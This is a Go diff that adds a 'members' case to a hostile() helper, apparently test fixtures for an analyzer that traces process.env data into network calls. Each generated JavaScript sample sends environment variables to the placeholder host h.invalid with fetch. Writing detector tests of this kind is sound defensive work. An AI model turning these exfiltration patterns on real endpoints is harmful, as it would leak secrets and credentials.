@@ -126,7 +126,13 @@ func hostile() map[string]string {
 	for i := range 2000 {
 		fmt.Fprintf(&all, "function f%d(x) { return f%d(x) + f%d(x) } f%d(process.env); fetch('https://h.invalid', {body: f%d});", i, (i+1)%2000, (i*7)%2000, i, i)
 	}
+	var members strings.Builder
+	members.WriteString("const o = {}; const f = () => fetch('https://h.invalid', {body: o});\n")
+	for i := range 200 {
+		fmt.Fprintf(&members, "o.m%d =\n process.env;\n", i)
+	}
 	return map[string]string{
+		"members":   members.String(),
 		"aliases":   aliases.String() + "fetch('https://h.invalid', {body: a99999})",
 		"calls":     all.String(),
 		"recursion": "function f(g) { return g(f)(g(process.env)) } f(f); fetch(f(f(f)))",
